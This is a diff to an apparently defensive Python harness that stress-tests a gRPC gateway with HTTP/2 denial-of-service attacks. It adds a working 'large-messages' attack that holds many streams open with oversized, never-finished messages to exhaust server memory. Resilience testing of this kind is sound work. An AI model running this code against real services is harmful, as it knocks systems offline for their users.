@@ -16,7 +16,9 @@ The attacks (the CVE names the published attacks of the kind):
 - zero-window: SETTINGS_INITIAL_WINDOW_SIZE 0 and many open server-streaming calls that can never send;
 - slow-headers: a request's HEADERS without END_HEADERS, then silence (slowloris);
 - half-preface: half a connection preface, then silence;
-- idle-connections: many connections that complete the preface and send nothing else.
+- idle-connections: many connections that complete the preface and send nothing else;
+- large-messages: many streams that each declare a 4 MiB request message and send as much of it as the
+  windows allow, never finishing it.
 """
 
 import multiprocessing
@@ -34,7 +36,7 @@ import hpack
 from grpc_health.v1 import health_pb2, health_pb2_grpc
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
 END_STREAM, END_HEADERS = 0x1, 0x4
 
 
@@ -223,6 +225,76 @@ def zero_window(port, stop):
     return len(held)
 
 
+def large_messages(port, stop, streams=100):
+    """Keeps `streams` requests open, each declaring a message of the maximum size and sending it as fast as
+    flow control allows, never to the end; streams the gateway ends are replaced. A message larger than a
+    stream's window has to be given back before its handler can read it; when the gateway did that for every
+    stream, one connection could hold 4 MiB per stream (100 streams: 400 MiB)."""
+    a = Attacker(port, stop)
+    declared = grpc_message()[:1] + struct.pack(">I", (4 << 20) - 16)
+    while not stop.is_set():
+        encoder = hpack.Encoder()
+        a.connect(PREFACE + settings())
+        connection_window, initial, windows, sent, next_id, pending = 65535, 65535, {}, {}, 1, b""
+        while not stop.is_set():
+            out = []
+            while len(windows) < streams and next_id < 2**31 - 1:
+                out.append(frame(HEADERS, END_HEADERS, next_id, grpc_request_headers("/grpc.health.v1.Health/Check", port, encoder)))
+                windows[next_id], sent[next_id] = initial, 0
+                next_id += 2
+            for stream in windows:
+                # The length prefix first, then filler: the declared length is never reached.
+                size = min(16384, windows[stream], connection_window)
+                if size < 5:
+                    continue
+                out.append(frame(DATA, 0, stream, (b"" if sent[stream] else declared).ljust(size, b"\0")))
+                windows[stream] -= size
+                sent[stream] += size
+                connection_window -= size
+            if out and not a.send(b"".join(out)):
+                break
+            a.sock.settimeout(0.01 if not out else 0.0005)
+            try:
+                chunk = a.sock.recv(1 << 16)
+                if not chunk:
+                    break
+                pending += chunk
+            except (BlockingIOError, socket.timeout):
+                pass
+            except OSError:
+                break
+            goaway = False
+            while len(pending) >= 9:
+                length = int.from_bytes(pending[:3], "big")
+                if len(pending) < 9 + length:
+                    break
+                type_, flags, stream = pending[3], pending[4], int.from_bytes(pending[5:9], "big") & 0x7FFFFFFF
+                payload, pending = pending[9:9 + length], pending[9 + length:]
+                if type_ == WINDOW_UPDATE:
+                    increment = int.from_bytes(payload[:4], "big")
+                    if stream == 0:
+                        connection_window += increment
+                    elif stream in windows:
+                        windows[stream] += increment
+                elif type_ == SETTINGS and not flags & 1:
+                    for i in range(0, len(payload), 6):
+                        key, value = struct.unpack(">HI", payload[i:i + 6])
+                        if key == 4:
+                            for s in windows:
+                                windows[s] += value - initial
+                            initial = value
+                    a.send(frame(SETTINGS, 1, 0))
+                elif type_ == RST_STREAM or (type_ == HEADERS and flags & END_STREAM):
+                    windows.pop(stream, None)
+                    sent.pop(stream, None)
+                elif type_ == GOAWAY:
+                    goaway = True
+            if goaway:
+                break
+    a.close()
+    return a.connections
+
+
 def silent_connections(initial, count):
     def attack(port, stop):
         socks = []
@@ -261,6 +333,7 @@ ATTACKS = {
     "slow-headers": (slow_headers, 1),
     "half-preface": (half_preface, 1),
     "idle-connections": (idle_connections, 1),
+    "large-messages": (large_messages, 1),
 }
 
 
